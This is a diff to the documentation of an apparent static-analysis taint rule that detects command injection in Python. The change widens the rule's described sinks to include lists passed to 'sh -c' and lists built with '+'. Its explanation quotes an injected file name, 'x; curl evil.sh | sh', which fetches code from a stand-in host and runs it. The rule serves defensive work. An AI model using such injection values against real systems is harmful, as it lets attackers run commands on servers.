@@ -32,7 +32,7 @@ export default createTaintRule({
     },
     docs: {
       whatItDoes:
-        'Follows attacker-controlled data (request data, route parameters, `input()`, `sys.argv`, socket reads) to command lines run through a shell (`os.system`, `os.popen`, `subprocess.*(..., shell=True)`, `subprocess.getoutput`, `asyncio.create_subprocess_shell`, paramiko `exec_command`) and to the program chosen by `subprocess.*` with a list, `os.exec*`, `os.spawn*` and `asyncio.create_subprocess_exec`. Values quoted with `shlex.quote()`, converted to numbers or checked against an allow-list are not flagged; extra list items passed to a program without a shell are arguments, not code, and are not flagged.',
+        'Follows attacker-controlled data (request data, route parameters, `input()`, `sys.argv`, socket reads) to command lines run through a shell (`os.system`, `os.popen`, `subprocess.*(..., shell=True)`, `subprocess.getoutput`, `asyncio.create_subprocess_shell`, paramiko `exec_command`) to the command line a list hands to a shell (`["sh", "-c", line]`), and to the program chosen by `subprocess.*` with a list (also a list bound to a name or built with `+`), `os.exec*`, `os.spawn*` and `asyncio.create_subprocess_exec`. Values quoted with `shlex.quote()`, converted to numbers or checked against an allow-list are not flagged; extra list items passed to a program without a shell are arguments, not code, and are not flagged.',
       whyBad:
         'A shell interprets `;`, `&&`, `|`, backticks and `$(...)`: a file name such as `x; curl evil.sh | sh` runs the attacker\'s commands with the server\'s permissions. Choosing the program itself from input is as bad.',
       example:
